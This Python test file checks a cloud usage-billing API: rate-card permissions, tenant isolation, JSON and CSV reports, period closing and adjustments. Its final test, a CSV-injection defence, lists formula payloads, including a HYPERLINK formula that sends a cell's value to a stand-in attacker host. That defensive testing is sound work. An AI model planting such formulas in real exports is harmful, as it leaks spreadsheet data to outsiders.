"""Usage and rates over HTTP: who may do what, report formats, closing a period."""

from __future__ import annotations

import csv
import io
import uuid
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta

import pytest
from fastapi.testclient import TestClient
from sqlalchemy.orm import Session, sessionmaker

from api.db import utcnow
from api.usage import ledger
from api.usage.meters import METERS, PRICE_KEYS
from tests.factories import make_account

MAY = {"start": "2026-05-01T00:00:00Z", "end": "2026-06-01T00:00:00Z"}


@pytest.fixture
def db(client: TestClient) -> Iterator[Session]:
    """A unit of work on the test database, committed at the end."""
    factory: sessionmaker[Session] = client.app.state.sessionmaker  # type: ignore[attr-defined]
    session = factory()
    try:
        yield session
        session.commit()
    finally:
        session.close()


def lifecycle(session: Session, project: str, start: datetime, run_s: int = 3600,
              size: tuple[int, int, int] = (2, 4096, 40)) -> str:
    """A server created at ``start`` that runs ``run_s`` seconds from +60 s, then stops."""
    server = str(uuid.uuid4())
    for kind, sec in [("created", 0), ("running", 60), ("stopped", 60 + run_s)]:
        ledger.record(session, kind=kind, project_id=project,  # type: ignore[arg-type]
                      server_id=server, vcpus=size[0], ram_mb=size[1], disk_gb=size[2],
                      at=start + timedelta(seconds=sec), idempotency_key=f"{server}:{kind}",
                      source="api" if kind == "created" else "agent")
    session.commit()
    return server


# --- rate cards ---

def test_rate_cards_are_admin_only_to_change_and_readable_by_everyone(
    client: TestClient, admin: dict[str, str]
) -> None:
    member = make_account(client, admin, "member")
    future = (utcnow() + timedelta(days=400)).replace(microsecond=0)
    body = {"valid_from": future.isoformat(), "currency": "EUR", "vcpu_hour": "0.04",
            "ram_gib_hour": "0.005", "disk_gib_hour": "0.0001", "flavor_hour": {"tiny": "0.01"}}
    r = client.post("/v1/rates", json=body, headers=member.headers)
    assert r.status_code == 403 and r.json()["code"] == "admin_required"
    r = client.post("/v1/rates", json=body, headers=admin)
    assert r.status_code == 201, r.text
    card = r.json()
    assert card["vcpu_hour"] == "0.04" and len(card["flavor_hour"]) == 1
    assert any(c["id"] == card["id"] for c in
               client.get("/v1/rates", headers=member.headers).json())
    r = client.delete(f"/v1/rates/{card['id']}", headers=member.headers)
    assert r.status_code == 403
    assert client.delete(f"/v1/rates/{card['id']}", headers=admin).status_code == 204
    assert client.get(f"/v1/rates/{card['id']}", headers=admin).status_code == 404


@pytest.mark.parametrize("change, code", [
    ({"valid_from": "2020-01-01T00:00:00Z"}, "valid_from_in_past"),
    ({"currency": "eu"}, "invalid_input"),
    ({"vcpu_hour": "-1"}, "invalid_input"),
    ({"flavor_hour": {"no-such-flavor": "1"}}, "unknown_flavor"),
])
def test_bad_rate_cards_are_refused(client: TestClient, admin: dict[str, str],
                                    change: dict[str, object], code: str) -> None:
    body = {"valid_from": (utcnow() + timedelta(days=500)).isoformat(), "currency": "EUR",
            "vcpu_hour": "1", "ram_gib_hour": "1", "disk_gib_hour": "1", **change}
    r = client.post("/v1/rates", json=body, headers=admin)
    assert r.status_code == 422 and r.json()["code"] == code, r.text


# --- reports ---

def test_a_tenant_reads_its_own_usage_as_json_and_csv(
    client: TestClient, admin: dict[str, str], db: Session
) -> None:
    member = make_account(client, admin, "member")
    reader = make_account(client, admin, "reader", project_id=member.project_id)
    server = lifecycle(db, member.project_id, datetime(2026, 5, 3, tzinfo=UTC))
    r = client.get("/v1/usage", params={**MAY, "group_by": "server"}, headers=reader.headers)
    assert r.status_code == 200, r.text
    [block] = r.json()["projects"]
    assert block["project_id"] == member.project_id
    assert block["running_seconds"] == 3600 and block["vcpu_seconds"] == 7200
    assert block["vcpu_hours"] == "2.000000" and block["ram_gib_hours"] == "4.000000"
    [line] = block["servers"]
    assert line["server_id"] == server and line["state"] == "stopped"
    assert line["first_seen"] == "2026-05-03T00:00:00Z"
    assert line["last_seen"] == "2026-05-03T01:01:00Z"

    r = client.get("/v1/usage", params=MAY, headers={**member.headers, "Accept": "text/csv"})
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(r.text)))
    assert rows[0]["line"] == "project" and rows[0]["running_seconds"] == "3600"

    r = client.get("/v1/usage", params={**MAY, "group_by": "day"}, headers=member.headers)
    days = r.json()["periods"]
    assert len(days) == 31
    per_day = [d["projects"][0]["running_seconds"] for d in days]
    assert per_day[2] == 3600 and sum(per_day) == 3600  # all on May 3rd

    r = client.get(f"/v1/usage/servers/{server}", headers=reader.headers)
    assert r.status_code == 200 and r.json()["running_seconds"] == 3600
    assert [e["kind"] for e in r.json()["entries"]] == ["created", "running", "stopped"]


def test_a_tenant_cannot_read_another_projects_usage(
    client: TestClient, admin: dict[str, str], db: Session
) -> None:
    mine = make_account(client, admin, "member")
    other = make_account(client, admin, "member")
    server = lifecycle(db, other.project_id, datetime(2026, 5, 4, tzinfo=UTC))
    r = client.get("/v1/usage", params={**MAY, "project_id": other.project_id},
                   headers=mine.headers)
    assert r.status_code == 404 and r.json()["code"] == "project_not_found"
    assert client.get(f"/v1/usage/servers/{server}", headers=mine.headers).status_code == 404
    # and its own report does not contain the other project
    r = client.get("/v1/usage", params=MAY, headers=mine.headers)
    assert [b["project_id"] for b in r.json()["projects"]] == [mine.project_id]
    # an admin sees any or all
    r = client.get("/v1/usage", params=MAY, headers=admin)
    assert other.project_id in {b["project_id"] for b in r.json()["projects"]}
    r = client.get("/v1/usage", params={**MAY, "project_id": other.project_id}, headers=admin)
    assert r.json()["projects"][0]["running_seconds"] == 3600


@pytest.mark.parametrize("params", [
    {"start": "2026-05-02T00:00:00Z", "end": "2026-05-01T00:00:00Z"},
    {"start": "2024-01-01T00:00:00Z", "end": "2026-01-01T00:00:00Z"},
    {"start": "yesterday", "end": "2026-05-01T00:00:00Z"},
    {**MAY, "group_by": "week"},
])
def test_bad_windows_are_refused(client: TestClient, admin: dict[str, str],
                                 params: dict[str, str]) -> None:
    r = client.get("/v1/usage", params=params, headers=admin)
    assert r.status_code == 422, r.text
    assert r.headers["content-type"].startswith("application/problem+json")


# --- closing a period ---

def test_a_closed_month_stays_byte_for_byte_and_adjustments_go_to_the_open_period(
    client: TestClient, admin: dict[str, str], db: Session
) -> None:
    member = make_account(client, admin, "member")
    server = lifecycle(db, member.project_id, datetime(2025, 3, 31, 23, 0, tzinfo=UTC))
    assert client.post("/v1/usage/periods/2025-03/close",
                       headers=member.headers).status_code == 403
    r = client.post("/v1/usage/periods/2025-03/close", headers=admin)
    assert r.status_code == 201, r.text
    again = client.post("/v1/usage/periods/2025-03/close", headers=admin)
    assert again.status_code == 409 and again.json()["code"] == "period_closed"
    frozen = client.get("/v1/usage/periods/2025-03", params={"project_id": member.project_id},
                        headers=admin).content
    frozen_csv = client.get("/v1/usage/periods/2025-03", headers={**admin, "Accept": "text/csv"})
    block = next(b for b in __import__("json").loads(frozen)["projects"]
                 if b["project_id"] == member.project_id)
    assert block["running_seconds"] == 59 * 60  # the run crosses into April at 00:00

    # later: an admin adjustment and a late agent report about March
    r = client.post("/v1/usage/adjustments", headers=admin, json={
        "project_id": member.project_id, "server_id": server, "amount": "-1.50",
        "reason": "goodwill credit for the March outage"})
    assert r.status_code == 201, r.text
    assert r.json()["kind"] == "adjustment" and r.json()["amount"] == "-1.50"
    late = ledger.record(db, kind="running", project_id=member.project_id, server_id=server,
                         vcpus=2, ram_mb=4096, disk_gb=40,
                         at=datetime(2025, 3, 31, 23, 30, tzinfo=UTC),
                         idempotency_key=f"{server}:late", source="agent")
    db.commit()
    assert late is not None and late.clamped
    assert late.at == datetime(2025, 4, 1, tzinfo=UTC)  # never inside the closed month

    for who in (admin, member.headers):
        assert client.get("/v1/usage/periods/2025-03", params={"project_id": member.project_id},
                          headers=who).content == frozen
    assert client.get("/v1/usage/periods/2025-03",
                      headers={**admin, "Accept": "text/csv"}).content == frozen_csv.content
    live = client.get("/v1/usage", params={"start": "2025-03-01T00:00:00Z",
                                           "end": "2025-04-01T00:00:00Z", "group_by": "server",
                                           "project_id": member.project_id}, headers=admin)
    assert live.content == frozen
    # the adjustment shows in the open period it was made in, as its own line
    now = utcnow()
    month = datetime(now.year, now.month, 1, tzinfo=UTC)
    r = client.get("/v1/usage", params={"start": month.isoformat(),
                                        "end": (now + timedelta(days=1)).isoformat()},
                   headers=member.headers)
    [blk] = r.json()["projects"]
    assert blk["adjustments_cost"] == "-1.50"
    assert blk["adjustments"][0]["reason"] == "goodwill credit for the March outage"


@pytest.mark.parametrize("period, status, code", [
    ("2025-13", 422, "invalid_period"),
    ("2999-01", 409, "period_not_ended"),
])
def test_bad_or_open_months_cannot_be_closed(client: TestClient, admin: dict[str, str],
                                             period: str, status: int, code: str) -> None:
    r = client.post(f"/v1/usage/periods/{period}/close", headers=admin)
    assert r.status_code == status and r.json()["code"] == code


def test_adjustments_are_admin_only_and_need_a_reason(client: TestClient,
                                                      admin: dict[str, str]) -> None:
    member = make_account(client, admin, "member")
    body = {"project_id": member.project_id, "amount": "5", "reason": "x"}
    assert client.post("/v1/usage/adjustments", json=body,
                       headers=member.headers).status_code == 403
    r = client.post("/v1/usage/adjustments", json={**body, "reason": ""}, headers=admin)
    assert r.status_code == 422
    r = client.post("/v1/usage/adjustments", json={**body, "project_id": str(uuid.uuid4())},
                    headers=admin)
    assert r.status_code == 404


def test_open_months_and_unknown_servers_answer_404(client: TestClient,
                                                    admin: dict[str, str]) -> None:
    reader = make_account(client, admin, "reader")
    r = client.get("/v1/usage/periods/2026-10", headers=reader.headers)
    assert r.status_code == 404 and r.json()["code"] == "period_open"
    r = client.get(f"/v1/usage/servers/{uuid.uuid4()}", headers=admin)
    assert r.status_code == 404 and r.json()["code"] == "server_not_found"
    assert client.post("/v1/usage/periods/2025-01/close",
                       headers=reader.headers).status_code == 403


# --- the meter registry is the one list of meters ---

def test_every_registered_meter_is_a_report_field_a_csv_column_and_a_rate_card_price(
    client: TestClient, admin: dict[str, str], db: Session
) -> None:
    member = make_account(client, admin, "member")
    lifecycle(db, member.project_id, datetime(2026, 5, 7, tzinfo=UTC))
    params = {**MAY, "group_by": "server"}
    [block] = client.get("/v1/usage", params=params, headers=member.headers).json()["projects"]
    header = next(csv.reader(io.StringIO(client.get(
        "/v1/usage", params=params, headers={**member.headers, "Accept": "text/csv"}).text)))
    for meter in METERS:
        assert meter.seconds_field in block and meter.hours_field in block
        assert meter.seconds_field in block["servers"][0] and meter.seconds_field in header
    body = {"valid_from": (utcnow() + timedelta(days=600)).isoformat(), "currency": "EUR",
            **{key: "0.01" for key in PRICE_KEYS}}
    for key in PRICE_KEYS:  # every priced meter needs its price
        r = client.post("/v1/rates", headers=admin,
                        json={k: v for k, v in body.items() if k != key})
        assert r.status_code == 422 and r.json()["code"] == "invalid_input", r.text
    r = client.post("/v1/rates", headers=admin, json=body)
    assert r.status_code == 201, r.text
    assert {key: r.json()[key] for key in PRICE_KEYS} == {key: "0.01" for key in PRICE_KEYS}
    assert client.delete(f"/v1/rates/{r.json()['id']}", headers=admin).status_code == 204


# --- output safety ---

def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_escaped(
    client: TestClient, admin: dict[str, str]
) -> None:
    # OWASP CSV injection: a text cell starting with = + - @ tab or CR gets a leading single
    # quote, so a spreadsheet shows it as text; numbers (a negative amount too) stay numbers.
    member = make_account(client, admin, "member")
    reasons = ['=HYPERLINK("http://evil.example/?x="&A1,"refund")', "+1+1", "@SUM(1)",
               "\tcredit", "\rcredit", "-2-3", "plain credit"]
    for reason in reasons:
        r = client.post("/v1/usage/adjustments", headers=admin, json={
            "project_id": member.project_id, "server_id": "-1-1", "amount": "-2.5",
            "reason": reason})
        assert r.status_code == 201, r.text
        assert r.json()["reason"] == reason  # stored and shown in JSON as given
    now = utcnow()
    window = {"start": datetime(now.year, now.month, 1, tzinfo=UTC).isoformat(),
              "end": (now + timedelta(days=1)).isoformat()}
    r = client.get("/v1/usage", params=window,
                   headers={**member.headers, "Accept": "text/csv"})
    assert r.status_code == 200, r.text
    rows = [row for row in csv.DictReader(io.StringIO(r.text, newline=""))
            if row["line"] == "adjustment"]
    assert sorted(row["reason"] for row in rows) == sorted(
        ["'" + reason for reason in reasons[:-1]] + ["plain credit"])
    assert {row["server_id"] for row in rows} == {"'-1-1"}
    assert {row["cost"] for row in rows} == {"-2.5"}
    [project] = [row for row in csv.DictReader(io.StringIO(r.text, newline=""))
                 if row["line"] == "project"]
    assert project["cost"] == "-17.5"
